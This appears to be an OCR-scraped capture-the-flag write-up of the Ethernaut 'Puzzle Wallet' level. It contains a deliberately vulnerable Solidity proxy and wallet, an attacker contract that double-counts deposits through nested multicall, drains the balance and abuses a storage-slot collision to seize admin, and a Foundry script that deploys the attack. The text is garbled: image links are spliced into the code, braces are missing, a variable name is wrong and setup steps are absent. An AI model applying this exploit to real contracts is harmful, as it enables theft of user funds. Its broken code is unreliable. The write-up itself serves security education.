Puzzle Wallet

Nowadays, paying for DeFi operations is impossible, fact.

A group of friends discovered howto slightly decrease the cost ofperforming multiple transactions by batching them in one transaction, so they developed a smart contract for doing this.

They needed this contract to be upgradeable in case the code contained a bug, and they also wanted to prevent people from outside the group from using it. To do so, they voted and assigned two people with special roles in thesystem: The admin, which has the power of updating the logic of the smart contract. The owner, which controls the whitelist of addresses allowed to use the contract. The contracts were deployed, and the group was whitelisted. Everyone cheered for their accomplishments against evil miners.

Little did they know, their lunch money wasat risk…

You’ll need to hijack this wallet to become the admin of the proxy.

Things that might help:

  • Understanding how delegatecall works and how msg.sender and msg.value behaves when performing one.
  • Knowing about proxy patterns and the way they handle storage variables.
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;
pragma experimental ABIEncoderV2;

import "../helpers/UpgradeableProxy-08.sol";

contract PuzzleProxy is UpgradeableProxy {
    address public pendingAdmin;
    address public admin;

    constructor(address _admin, address _implementation, bytes memory _initData) UpgradeableProxy(_implementation, _initData) {
        admin = _admin;

    modifier onlyAdmin {
      require(msg.sender == admin, "Caller is not the admin");

    function proposeNewAdmin(address _newAdmin) external {
        pendingAdmin = _newAdmin;

    function approveNewAdmin(address _expectedAdmin) external onlyAdmin {
        require(pendingAdmin == _expectedAdmin, "Expected new admin by the current admin is not the pending admin");
        admin = pendingAdmin;

    function upgradeTo(address _newImplementation) external onlyAdmin {contract PuzzleWallet {
    address public owner;
    uint256 public maxBalance;
    mapping(address => bool) public whitelisted;
    mapping(address => uint256) public balances;

    function init(uint256 _maxBalance) public {
        require(maxBalance == 0, "Already initialized");
        maxBalance = _maxBalance;
        owner = msg.sender;modifier onlyWhitelisted {
        require(whitelisted[msg.sender], "Not whitelisted");

    function setMaxBalance(uint256 _maxBalance) external onlyWhitelisted {
      require(address(this).balance == 0, "Contract balance is not 0");
      maxBalance = _maxBalance;

    function addToWhitelist(address addr) external {
        require(msg.sender == owner, "Not the owner");
        whitelisted[addr] = true;

    function deposit() external payable onlyWhitelisted {
      require(address(this).balance <= maxBalance, "Max balance reached");
      balances[msg.sender] += msg.value;

    function execute(address to, uint256 value, bytes calldata data) external payable onlyWhitelisted {
        require(balances[msg.sender] >= value, "Insufficient balance");
        balances[msg.sender] -= value;
        (bool success, ) = to.call{ value: value }(data);
        require(success, "Execution failed");

    function multicall(bytes[] calldata data) external payable onlyWhitelisted {
        bool depositCalled = false;for (uint256 i = 0; i < data.length; i++) {
            bytes memory _data = data[i];
            bytes4 selector;
            assembly {
                selector := mload(add(_data, 32))
            if (selector == this.deposit.selector) {
                require(!depositCalled, "Deposit can only be called once");
                // Protect against reusing msg.value
                depositCalled = true;
            (bool success, ) = address(this).delegatecall(data[i]);
            require(success, "Error while delegating call");


// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.13;

import "../lib/forge-std/src/console.sol";

interface PuzzleProxy {
  function init(uint256 _maxBalance) external;
  function owner() external returns(address);
  function pendingAdmin() external returns(address);
  function maxBalance() external returns(uint);
  function setMaxBalance(uint) external;
  function admin() external returns(address);
  function proposeNewAdmin(address _newAdmin) external;
  function approveNewAdmin(address _expectedAdmin) external;
  function multicall(bytes[] calldata data) external payable;
  function deposit() external payable;
  functionaddToWhitelist(address addr) external;
  function execute(address to, uint256 value, bytes calldata data) external payable;
  function balances(address) external returns(uint);
  function implementation() external returns (address);

contract Attacker {
  function attack(PuzzleProxy _proxy) public payable {
    // [slot0] PuzzleWallet: owner => PuzzleProxy: pendingAdmin
    // This mean that owner is now the address of the attacker

    bytes memory deposit = abi.encodeCall(PuzzleProxy.deposit, ());

    // We can call multicall inside multicall to bypass the depositCalled flag
    // It's like some sort of re-entrancy variant attack
    bytes[] memory datas = new bytes[](1);
    datas[0] = deposit;
    bytes memory multicall = abi.encodeCall(PuzzleProxy.multicall, (datas));

    bytes[] memory selectors = new bytes[](2);
    selectors[1] = multicall; // One deposit call nested iside a multicall
    selectors[0] = deposit; // The second deposit call

    // So we deposit once but we can increase our balance twice !
    proxy.multicall{ value: msg.value }(selectors);

    // Then we can withdraw all funds to our address
    proxy.execute(msg.sender, address(_proxy).balance, "");// Then we can overwrite the maxBalance slot which map to the admin slot
    // inside the proxy contract :)
// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.13;

import "forge-std/Script.sol";
import "forge-std/console.sol";

import {Attacker,PuzzleProxy} from '../src/24.sol';

contract POC is Script {

    function run() external {
        uint256 deployerPrivateKey = vm.envUint("PRIVATE_KEY");
        address addr = vm.envAddress("INSTANCE_24");


        Attacker attacker = new Attacker();
        PuzzleProxy proxy = PuzzleProxy(addr);

        attacker.attack{ value: address(proxy).balance }(proxy);




Next time, those friends will request an audit before depositing any money on a contract. Congrats!

Frequently, using proxy contracts is highly recommended to bring upgradeability features and reduce the deployment’s gas cost. However, developers must be careful not to introduce storage collisions, as seen in this level.

Furthermore, iterating over operations that consume ETH can lead to issues if it is not handled correctly. Even if ETH is spent, msg.value willremain the same, so the developer must manually keep track of the actual remaining amount on each iteration. This can also lead to issues when using a multi-call pattern, as performing multiple delegatecalls to a function that looks safe on its own could lead to unwanted transfers of ETH, asdelegatecalls keep the original msg.value sent to the contract.

Move on to the next levelwhen you’re ready!